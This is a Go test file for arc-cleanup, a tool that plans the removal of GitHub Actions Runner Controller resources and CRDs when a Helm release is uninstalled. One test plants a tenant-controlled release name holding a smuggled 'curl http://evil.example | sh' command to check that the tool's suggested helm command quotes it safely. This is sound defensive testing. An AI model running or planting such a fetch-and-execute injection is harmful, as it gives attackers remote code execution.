package plan_test

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/arc-cleanup/arc-cleanup/internal/arc"
	"github.com/arc-cleanup/arc-cleanup/internal/helm"

	"k8s.io/apimachinery/pkg/types"

	"github.com/arc-cleanup/arc-cleanup/internal/identity"
	"github.com/arc-cleanup/arc-cleanup/internal/kube/kubetest"
	"github.com/arc-cleanup/arc-cleanup/internal/object"
	"github.com/arc-cleanup/arc-cleanup/internal/plan"
	"github.com/arc-cleanup/arc-cleanup/internal/plan/plantest"
)

// The release has several controllers, and the hook was rendered for fewer namespaces.
func TestAControllerThatTheHookDoesNotKnow(t *testing.T) {
	t.Parallel()
	r := plantest.Uninstalling()
	r.Objects = append(r.Objects, plantest.InRecord("Deployment", "systems/b"))
	both := []plan.Controller{plantest.Ctrl("systems/arc", "team-a", kubetest.By("systems/arc")), plantest.Ctrl("systems/b", "team-b", kubetest.By("systems/arc"))}
	live := []*object.Object{kubetest.Object("ars team-b/set")}
	watching := func(namespaces ...string) plan.Options {
		o := plantest.AsHook
		o.WatchNamespaces = namespaces
		return o
	}
	const why = "refused: the controller systems/b of this release watches team-b, and the hook was rendered for team-a"
	refused := func(o plan.Options, controllers []plan.Controller) string {
		return strings.Join(plantest.Lines(plan.New(&plan.Survey{Record: r, Controllers: controllers, Custom: live}, o, plan.History{})), "\n")
	}
	if got := refused(watching("team-a"), both); !strings.Contains(got, why) {
		t.Errorf("rendered for one of two:\n%s", got)
	}
	if got := refused(watching("team-a", "team-b"), both); strings.Contains(got, "watches team-b") || !strings.Contains(got, "scale set set in namespace team-b is still installed") {
		t.Errorf("rendered for both:\n%s", got)
	}
	all := []plan.Controller{plantest.Ctrl("systems/arc", "", kubetest.By("systems/arc"))}
	if got := refused(watching("team-a"), all); !strings.Contains(got, "watches all namespaces, and the hook was rendered for team-a") {
		t.Errorf("one that watches all:\n%s", got)
	}
	if got := refused(watching(), both); strings.Contains(got, "rendered for") {
		t.Errorf("rendered for all:\n%s", got)
	}
	legacy := watching("team-a")
	legacy.Scope = plan.ScopeLegacy
	if got := refused(legacy, all); !strings.Contains(got, "watches all namespaces, and the hook was rendered for team-a") {
		t.Errorf("a legacy one:\n%s", got)
	}
	if got := refused(watching("team-a"), []plan.Controller{plantest.Ctrl("team/b", "team-b")}); strings.Contains(got, "rendered for") {
		t.Errorf("somebody else's:\n%s", got)
	}
}

// If objects are outside the namespaces in which the hook has rights, the uninstall is not done.
func TestOutsideTheRunnerNamespaces(t *testing.T) {
	t.Parallel()
	o := plantest.AsHook
	o.RunnerNamespaces = []string{"runners"}
	s := &plan.Survey{Record: plantest.Uninstalling(), Custom: []*object.Object{kubetest.Object("ars runners/set", kubetest.Deleting), kubetest.Object("er team/r", kubetest.Deleting), kubetest.Object("al systems/l", kubetest.Of("runners/set"), kubetest.Deleting)}, CRDs: kubetest.CRDs()}
	refusals := func(s *plan.Survey, o plan.Options) (out []string) {
		for _, r := range plan.New(s, o, plan.History{}).Refusals {
			out = append(out, fmt.Sprintf("%s: %s", r.Verdict, r.Message))
		}
		return out
	}
	kubetest.ExpectStrings(t, "refusals", refusals(s, o), "refused: 1 custom resource of ARC in namespace team is outside the hook's runner namespaces: runners")
	// A listener belongs in the controller's namespace, a runner does not.
	s.Custom = []*object.Object{kubetest.Object("al systems/l", kubetest.Of("far/set"), kubetest.Deleting), kubetest.Object("er systems/r", kubetest.Deleting)}
	kubetest.ExpectStrings(t, "beside the controller", refusals(s, o), "refused: 1 custom resource of ARC in namespace systems is outside the hook's runner namespaces: runners")
	s.Custom = []*object.Object{kubetest.Object("run runners/r", kubetest.Deleting), kubetest.Object("run team/r", kubetest.Deleting)}
	o.Scope = plan.ScopeLegacy
	kubetest.ExpectStrings(t, "of a legacy controller", refusals(s, o), "refused: 1 custom resource of ARC in namespace team is outside the hook's runner namespaces: runners")
}

// CRDs that are kept, or managed separately, stay, together with what they need.
func TestCRDsThatStay(t *testing.T) {
	t.Parallel()
	keep := kubetest.CRDs(func(o *object.Object) { o.Keep = true })
	apart := kubetest.CRDs(kubetest.By("systems/arc-crds"))
	own := kubetest.CRDs(kubetest.By("systems/arc"))
	keeps := func(o plan.Options) plan.Options { o.CRDs = plan.KeepCRDs; return o }
	runner := []*object.Object{kubetest.Object("er runners/r", kubetest.Deleting)}
	const freed = "free: free er runners/r"
	testPlans(t, map[string]planTest{
		"told to":                    {plan.Survey{Record: plantest.Uninstalling(), CRDs: keep, Custom: runner}, plantest.AsHook, plan.Fresh, []string{freed, "keep: its annotation helm.sh/resource-policy says keep"}},
		"of another release":         {plan.Survey{Record: plantest.Uninstalling(), CRDs: apart, Custom: runner}, plantest.AsHook, plan.Fresh, []string{freed, "keep: it is of the Helm release arc-crds in namespace systems"}},
		"of this release":            {plan.Survey{Record: plantest.Uninstalling(), CRDs: own, Custom: runner}, plantest.AsHook, plan.Fresh, []string{freed, "crds: " + allCRDs}},
		"by the policy":              {plan.Survey{Record: plantest.Uninstalling(), CRDs: kubetest.CRDs(), Custom: runner}, keeps(plantest.AsHook), plan.Fresh, []string{freed, "keep: crds=keep"}},
		"each object goes by itself": {plan.Survey{Record: plantest.Uninstalling(), CRDs: keep, Custom: []*object.Object{kubetest.Object("er runners/r")}}, plantest.AsHook, plan.Fresh, []string{"free: delete er runners/r", freed, "keep: its annotation helm.sh/resource-policy says keep"}},
	})
}

// The controller of a release with the same name in another namespace is another controller.
func TestANamesakesController(t *testing.T) {
	t.Parallel()
	s := &plan.Survey{Record: plantest.Uninstalling(), Controllers: []plan.Controller{plantest.Ctrl("team/arc", "", kubetest.By("team/arc"))}, CRDs: kubetest.CRDs()}
	if got := plantest.Lines(plan.New(s, plantest.AsHook, plan.History{})); !slices.Contains(got, "keep: the controller team/arc uses them") {
		t.Errorf("%q", got)
	}
	account := plantest.Uninstalling()
	account.Objects[0].Kind = "ServiceAccount"
	namesake := &plan.Survey{Record: account, Controllers: []plan.Controller{plantest.Ctrl("systems/arc", "", kubetest.By("systems/arc"))}, CRDs: kubetest.CRDs()}
	if got := plantest.Lines(plan.New(namesake, plantest.AsHook, plan.History{})); !slices.Contains(got, "keep: the controller systems/arc uses them") {
		t.Errorf("the record has another object of that name, and no Deployment: %q", got)
	}
	claims := &plan.Survey{Record: plantest.Uninstalling(), Controllers: []plan.Controller{plantest.Ctrl("team/arc", "", kubetest.By("systems/arc"))}, CRDs: kubetest.CRDs()}
	if got := plantest.Lines(plan.New(claims, plantest.AsHook, plan.History{})); !slices.Contains(got, "keep: the controller team/arc uses them") {
		t.Errorf("it says to be ours, which the record does not: %q", got)
	}
}

// Release names come from annotations, which a tenant may write.
func TestCommandsAreQuoted(t *testing.T) {
	t.Parallel()
	set := kubetest.Object("ars tenant/set")
	set.Release = identity.Name{Namespace: "x", Name: "y; curl http://evil.example | sh #"}
	s := &plan.Survey{Custom: []*object.Object{set}, Proven: map[types.UID]bool{set.UID: true}}
	if got := plan.New(s, plantest.ByHand, plan.History{}).Refusals[0].Do[0]; got != "helm uninstall 'y; curl http://evil.example | sh #' --namespace x" {
		t.Error(got)
	}
	s.Proven = nil
	if got := plan.New(s, plantest.ByHand, plan.History{}).Refusals[0]; strings.Contains(got.Message+got.Do[0], "curl") {
		t.Errorf("named though nothing proves it: %+v", got)
	}
}

// withSets is the record of a release with a controller and a scale set.
func withSets() *helm.Record {
	r := plantest.Uninstalling()
	r.Objects = append(r.Objects, plantest.InRecord(arc.AutoscalingRunnerSet, "systems/set"))
	return r
}

// The CRDs of a release with scale sets are deleted last, and the one that Helm needs after the
// others. Without that CRD the run does not say "done".
func TestThePlanOfAReleaseThatHoldsScaleSets(t *testing.T) {
	t.Parallel()
	last := kubetest.CRDs()[3:]
	stays := func(o plan.Options) plan.Options { o.CRDs = plan.KeepCRDs; return o }
	refusal := []string{
		"refused: release arc in namespace systems holds scale sets, but the CRD autoscalingrunnersets.actions.github.com is gone: Helm cannot uninstall the release without it",
		"  a stand-in for the CRD lets Helm finish, and arc-cleanup removes what is left and the stand-in:", "  echo '" + plan.StandIn + "' | kubectl create --filename -",
		"  kubectl wait --for condition=Established crd autoscalingrunnersets.actions.github.com",
		"  helm uninstall arc --namespace systems --no-hooks", "  arc-cleanup run --release arc --release-namespace systems", "  kubectl delete job arc-arc-cleanup --namespace systems",
	}
	testPlans(t, map[string]planTest{
		"while something is left they stay": {
			plan.Survey{Record: withSets(), CRDs: kubetest.CRDs(), Custom: []*object.Object{kubetest.Object("er systems/r", kubetest.Of("systems/set"))}},
			plantest.AsHook, plan.Fresh,
			[]string{"free: delete er systems/r", "free: free er systems/r"},
		},
		"though it is but garbage": {
			plan.Survey{Record: withSets(), CRDs: kubetest.CRDs(), Dependents: []*object.Object{kubetest.Object("secret systems/jit", kubetest.Of("systems/set"), kubetest.Owned("er systems/r"))}},
			plantest.AsHook, plan.Fresh,
			[]string{"collect: delete secret systems/jit"},
		},
		"then those go which Helm does not need": {
			plan.Survey{Record: withSets(), CRDs: kubetest.CRDs()},
			plantest.AsHook, plan.Fresh,
			[]string{"crds: delete crd ephemeralrunners.actions.github.com, delete crd ephemeralrunnersets.actions.github.com, delete crd autoscalinglisteners.actions.github.com"},
		},
		"then the last":              {plan.Survey{Record: withSets(), CRDs: last}, plantest.AsHook, plan.Fresh, []string{"crds: delete crd autoscalingrunnersets.actions.github.com"}},
		"unless they are to be kept": {plan.Survey{Record: withSets(), CRDs: last}, stays(plantest.AsHook), plan.Fresh, []string{"keep: crds=keep"}},
		"not when it is gone":        {plan.Survey{Record: withSets()}, plantest.AsHook, plan.Fresh, refusal},
		"nor when only others are there": {
			plan.Survey{Record: withSets(), CRDs: kubetest.CRDs()[:1]}, plantest.AsHook, plan.Fresh, append(slices.Clone(refusal), "crds: delete crd ephemeralrunners.actions.github.com"),
		},
		"a failed read does not mean gone":          {plan.Survey{Record: withSets(), Unknown: []plan.Unknown{{What: "crds", Err: errors.New("x")}}}, plantest.AsHook, plan.Fresh, []string{"failed: could not read crds: x"}},
		"a release without scale sets needs no CRD": {plan.Survey{Record: plantest.Uninstalling()}, plantest.AsHook, plan.Fresh, nil},
	})
	if got := strings.Join(plantest.Lines(plan.New(&plan.Survey{Record: withSets()}, plantest.OfRelease, plan.History{})), "\n"); !strings.Contains(got, "is gone") || strings.Contains(got, "delete job") {
		t.Errorf("by hand there is no Job:\n%s", got)
	}
	gone := plan.History{Deleted: map[string]types.UID{plan.LastCRD: "1"}}
	if got := plantest.Lines(plan.New(&plan.Survey{Record: withSets()}, plantest.AsHook, gone)); got != nil {
		t.Errorf("this run has deleted it: %q", got)
	}
	if got := plan.New(&plan.Survey{Record: withSets(), CRDs: last}, stays(plantest.AsHook), plan.History{}).Kept; len(got) != 1 {
		t.Errorf("kept %d times", len(got))
	}
}

// A note about a release that was named by hand says what its record says, or that there is none.
func TestNotesAboutANamedRelease(t *testing.T) {
	t.Parallel()
	deployed := plantest.Uninstalling()
	deployed.Status = "deployed"
	for name, test := range map[string]struct {
		survey plan.Survey
		want   []string
	}{
		"no record":                   {plan.Survey{ProofErr: plantest.ErrNoRelease}, []string{"Helm has no record of release arc in namespace systems"}},
		"it could not be read":        {plan.Survey{Unknown: []plan.Unknown{{What: "the Helm release", Err: errors.New("x")}}}, nil},
		"Helm is not uninstalling it": {plan.Survey{Record: deployed}, []string{"release arc in namespace systems is deployed: Helm is not uninstalling it"}},
		"it is being uninstalled":     {plan.Survey{Record: plantest.Uninstalling()}, nil},
	} {
		kubetest.ExpectStrings(t, name, plan.New(&test.survey, plantest.OfRelease, plan.History{}).Notes, test.want...)
	}
	if got := plan.New(&plan.Survey{}, plantest.ByHand, plan.History{}).Notes; got != nil {
		t.Errorf("nothing is named: %q", got)
	}
}

// Advice about where the proof may be covers only controllers beside the hook.
func TestWhereTheProofMayBe(t *testing.T) {
	t.Parallel()
	flux := func(c plan.Controller, namespace string) plan.Controller { c.Flux = namespace; return c }
	const hint = "this runs as a pre-delete hook of `helm uninstall`; by hand, use `arc-cleanup run --all-namespaces`"
	const storage = "Flux manages the controller systems/arc, and keeps Helm's record beside its HelmRelease unless told otherwise: set storageNamespace to flux-system"
	stored := plantest.AsHook
	stored.StorageNamespace = "flux-system"
	for name, test := range map[string]struct {
		controller plan.Controller
		options    plan.Options
		want       []string
	}{
		"nobody says":                     {plantest.Ctrl("systems/arc", ""), plantest.AsHook, []string{hint}},
		"of this release":                 {plantest.Ctrl("systems/arc", "", kubetest.By("systems/arc")), plantest.AsHook, []string{hint}},
		"Flux":                            {flux(plantest.Ctrl("systems/arc", ""), "flux-system"), plantest.AsHook, []string{storage, hint}},
		"Flux, which keeps it here":       {flux(plantest.Ctrl("systems/arc", ""), "systems"), plantest.AsHook, []string{hint}},
		"Flux, which was told":            {flux(plantest.Ctrl("systems/arc", ""), "flux-system"), stored, []string{hint}},
		"Flux, of a controller elsewhere": {flux(plantest.Ctrl("team/arc", "", kubetest.By("x/arc")), "flux-system"), plantest.AsHook, []string{hint}},
		"a release elsewhere": {plantest.Ctrl("systems/arc", "", kubetest.By("platform/arc")), plantest.AsHook, []string{
			"the controller systems/arc is not in the namespace of its release (namespaceOverride): give the post-renderer --namespace=platform",
			"to uninstall it now: arc-cleanup run --release arc --release-namespace platform --controller-namespace systems && helm uninstall arc --namespace platform --no-hooks",
			hint,
		}},
	} {
		s := &plan.Survey{ProofErr: plantest.ErrNoRelease, Controllers: []plan.Controller{test.controller}, Proven: map[types.UID]bool{test.controller.UID: true}}
		kubetest.ExpectStrings(t, name, plan.New(s, test.options, plan.History{}).Refusals[0].Do, test.want...)
	}
}

// An object that a finalizer of another tool holds is residue only if the run has seen its scale
// set or its release.
func TestWhatIsHeldAndKnown(t *testing.T) {
	t.Parallel()
	seen := plan.History{Sets: map[identity.Set]identity.Name{kubetest.Named("runners/set"): kubetest.Named("runners/gpu"), kubetest.Named("plain/set"): {}}}
	held := func(text string, mods ...kubetest.Change) *object.Object {
		return kubetest.Object("secret "+text, append([]kubetest.Change{kubetest.Deleting, kubetest.Finalizers("example.com/keep")}, mods...)...)
	}
	const kept = "it is being deleted, and held by finalizers which are not ARC's: example.com/keep"
	for name, test := range map[string]struct {
		object  *object.Object
		custom  []*object.Object
		options plan.Options
		history plan.History
		want    []string
	}{
		"of a set that was seen":                    {held("runners/s", kubetest.Of("runners/set")), nil, plantest.ByHand, seen, []string{"await secret runners/s"}},
		"of one that is there":                      {held("runners/s", kubetest.Of("runners/set")), []*object.Object{kubetest.Object("ars runners/set", kubetest.Deleting, kubetest.Finalizers())}, plantest.ByHand, plan.History{}, []string{"await secret runners/s"}},
		"of one that is named":                      {held("runners/s", kubetest.Of("runners/set")), nil, plantest.ScaleSetsNamed("set"), plan.History{}, []string{"await secret runners/s"}},
		"of a set that was never seen":              {held("runners/s", kubetest.Of("runners/other")), nil, plantest.ByHand, seen, []string{kept}},
		"not being deleted":                         {kubetest.Object("role runners/s", kubetest.Of("runners/set"), kubetest.Finalizers("example.com/keep")), nil, plantest.ScaleSetsNamed("other"), seen, nil},
		"out of reach":                              {held("team/s", kubetest.Of("team/set")), nil, plantest.ScaleSetsNamed("set"), seen, nil},
		"of a release that was seen":                {held("runners/s", kubetest.By("runners/gpu")), nil, plantest.ByHand, seen, []string{"await secret runners/s"}},
		"of that release, elsewhere":                {held("team/s", kubetest.By("runners/gpu")), nil, plantest.ByHand, seen, nil},
		"of another release":                        {held("runners/s", kubetest.By("runners/other")), nil, plantest.ByHand, seen, nil},
		"without a label, like a set that was seen": {held("plain/s"), nil, plantest.ByHand, seen, nil},
	} {
		s := &plan.Survey{Held: []*object.Object{test.object}, Custom: test.custom}
		var got []string
		p := plan.New(s, test.options, test.history)
		for _, step := range p.Steps(plan.PhaseCollect) {
			got = append(got, fmt.Sprintf("%s %s", step.Action, kubetest.Ref(step.Object)))
		}
		for _, k := range p.Kept {
			if k.Object == test.object {
				got = append(got, k.Why)
			}
		}
		kubetest.ExpectStrings(t, name, got, test.want...)
	}
}

// An object that the run remembers as a dependent stays one, whatever else is in its namespace. An
// object with another owner is not taken.
func TestWhatARunRemembersAsItsOwn(t *testing.T) {
	t.Parallel()
	s := &plan.Survey{
		Controllers: []plan.Controller{plantest.Ctrl("team/b", "theirs")}, Custom: []*object.Object{kubetest.Object("er theirs/r")},
		Dependents: []*object.Object{kubetest.Object("secret runners/jit", kubetest.Owned("er runners/r")), kubetest.Object("secret theirs/jit", kubetest.Owned("er theirs/r"))},
	}
	if got := plantest.Lines(plan.New(s, plantest.ByHand, plan.History{})); got != nil {
		t.Errorf("before: %q", got)
	}
	h := plan.History{Dependents: map[types.UID]bool{"secret runners/jit": true, "secret theirs/jit": true}}
	p := plan.New(s, plantest.ByHand, h)
	kubetest.ExpectStrings(t, "plan", plantest.Lines(p), "collect: delete secret runners/jit")
	if why := p.Phases[0].Steps()[0].Why; why != plan.OwnerGone {
		t.Errorf("because %s", why)
	}
}
